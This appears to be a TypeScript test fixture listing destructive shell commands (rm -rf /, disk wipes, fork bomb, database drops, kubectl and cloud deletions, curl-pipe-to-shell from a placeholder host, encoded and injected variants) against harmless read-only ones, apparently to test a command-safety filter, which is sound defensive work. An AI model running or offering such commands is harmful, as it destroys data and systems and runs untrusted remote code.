// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell lines are full of them
/** Lines that take away what does not come back, in the dresses that people and scripts give them. */
export const DESTRUCTIVE: readonly string[] = [
  ...String.raw`
rm -rf /
r''m -rf /var
\rm -fr /var
/bin/rm -r /var
{rm,-rf,/}
X=rm; $X -rf /
$'\x72m' -rf /
sudo -u root rm -rf /
env A=b nice -n 5 rm -rf /
timeout 5 rm -rf /
sh -c 'rm -rf /'
bash -lc "sh -c 'rm -rf /'"
eval 'rm -rf /'
eval "$(curl -s https://x.example)"
curl -s https://x.example/i.sh | sh
curl -s https://x.example/i.sh | sudo bash -s -- --yes
echo cm0gLXJmIC8= | base64 -d | bash
bash <(curl -s https://x.example)
bash <<< "rm -rf /"
kubectl get pods; rm -rf /
kubectl get pods && (cd /; rm -rf *)
kubectl get pods $(rm -rf /)
echo "$(echo "$(rm -rf /)")"
if true; then rm -rf /; fi
for i in 1 2; do kubectl delete ns shop; done
find / -name x -delete
find / -exec rm {} \;
ls | xargs rm -f
ssh host rm -rf /
ssh -i key user@host 'rm -rf /'
su - root -c 'rm -rf /'
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sda1
echo x > /dev/sda
cat x > /etc/passwd
:(){ :|:& };:
iptables -F
shutdown -h now
reboot
mysql -e 'DROP TABLE users'
psql -c 'delete from users'
kubectl delete crd widgets.example.com
kubectl delete pv pv-1
kubectl delete all --all -A
kubectl "delete" "namespace" shop
kubectl --context=prod -n shop delete deployment web
kubectl exec web -- rm -rf /data
oc rsh web sh -c 'rm -rf /data'
docker exec web rm -rf /data
docker volume rm data
docker run --rm -v /:/host alpine rm -rf /host
helm delete web
aws rds delete-db-instance --db-instance-identifier x
aws s3 rb s3://b --force
aws s3 sync . s3://b --delete
gcloud projects delete p
gcloud compute ssh vm --command="rm -rf /"
terraform destroy -auto-approve
git push --force
$(echo rm) -rf /
watch "rm -rf /tmp/x"
`
    .trim()
    .split('\n'),
  'rm${IFS}-rf${IFS}/',
  'bash <<EOF\nrm -rf /\nEOF',
  'kubectl get pods `rm -rf /`',
];

/** Lines that only look, in the shapes that people write. */
export const HARMLESS: readonly string[] = [
  ...`
kubectl get pods -A | grep -v Running
kubectl get pods -o jsonpath='{.items[*].metadata.name}'
kubectl logs web-0 --since=1h 2>/dev/null | tail -n 20 > out.txt
kubectl get events --sort-by=.lastTimestamp | head
kubectl describe pod rm-worker-0
kubectl get ns delete-me -o yaml
kubectl logs web | grep 'rm -rf'
echo "kubectl delete ns shop"
helm list | grep delete
docker logs -f web --tail 100
docker inspect web
systemctl status rm-agent
aws s3 ls s3://delete-logs
aws logs tail /aws/lambda/delete-user --follow
gcloud logging read "resource.type=k8s_container" --limit 5
oc get co -o wide
watch -n 5 kubectl get pods
time kubectl get nodes
sudo systemctl status kubelet
kubectl exec web -- cat /etc/hosts
find /var/log -name "*.log"
kubectl get pods $POD -n "$NS"
journalctl -u kubelet | tail -50
kubectl auth can-i delete pods
kubectl explain deployment.spec
curl -s https://web.example/health | jq .status
`
    .trim()
    .split('\n'),
];
